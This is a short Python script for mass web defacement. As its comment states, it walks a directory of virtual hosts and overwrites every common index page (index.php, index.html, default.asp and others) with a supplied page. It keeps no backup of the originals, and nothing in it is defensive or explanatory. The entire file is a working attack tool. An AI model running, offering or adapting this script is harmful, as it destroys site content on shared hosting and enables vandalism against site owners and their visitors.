#!/usr/bin/env python3
# walk every vhost and put our page in place of its index pages
import os, shutil, sys
page = sys.argv[1]
names = ["index.php", "index.html", "default.asp", "index.jsp", "default.htm"]
for root, dirs, files in os.walk(sys.argv[2]):
    for n in files:
        if n in names:
            shutil.copyfile(page, os.path.join(root, n))
